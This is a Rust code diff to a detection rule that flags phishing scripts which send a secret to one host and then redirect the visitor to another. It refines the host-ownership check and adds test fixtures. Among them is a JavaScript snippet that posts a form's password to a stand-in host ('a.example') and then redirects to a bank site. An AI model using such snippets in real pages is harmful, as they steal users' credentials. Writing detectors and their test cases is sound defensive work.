@@ -1,8 +1,9 @@
 //! `secret-sent-then-away`.
 
 use crate::facts::Atom;
-use crate::signals::answered::has_one_owner;
+use crate::signals::answered::requests;
 use crate::signals::near::Near;
+use crate::signals::owners::owner_used;
 use crate::signals::{Evidence, Held, Signal, one};
 use crate::{ClassSet, Severity};
 
@@ -24,6 +25,7 @@ pub(super) const SIGNAL: Signal = Signal {
     cases: crate::signals::Cases {
         with: &[
             "$('#f').submit(function(e){e.preventDefault();$.post('a.php',{u:$('#u').val(),p:$('#password').val()});setTimeout(function(){location.href='https://mail.example/inbox'},3000)})",
+            "f.onsubmit=e=>{fetch('https://a.example/x',{method:'POST',body:JSON.stringify({p:f.password.value})});fetch('https://bank.example/logo');setTimeout(()=>{location.href='https://www.bank.example/'},900)}",
         ],
         without: &[
             "$('#f').submit(function(e){e.preventDefault();$.post('a.php',{u:$('#u').val(),p:$('#password').val()},function(){location.href='/home'})})",
@@ -34,5 +36,15 @@ pub(super) const SIGNAL: Signal = Signal {
 
 /// Whether the visitor does not just go from one host of a site to another: `https://api.shop.example`, `https://www.shop.example`.
 fn of_two_owners(evidence: &Evidence<'_>, held: Held) -> bool {
-    !has_one_owner(Near::new(evidence, held, 40))
+    let near = Near::new(evidence, held, 40);
+    let away = near.places().filter(|at| near.has_fact_in(*at..at + 1, &[Atom::SentAway]));
+    let sent = || {
+        near.places()
+            .filter(|at| near.word(*at) == "open" && near.is(at + 1, b'('))
+            .chain(requests(near).filter(|at| near.word(*at) != "send"))
+    };
+    away.map(|at| owner_used(near, at)).any(|away| {
+        let mut sent = sent().peekable();
+        away.is_none() || sent.peek().is_none() || sent.any(|at| owner_used(near, at) != away)
+    })
 }
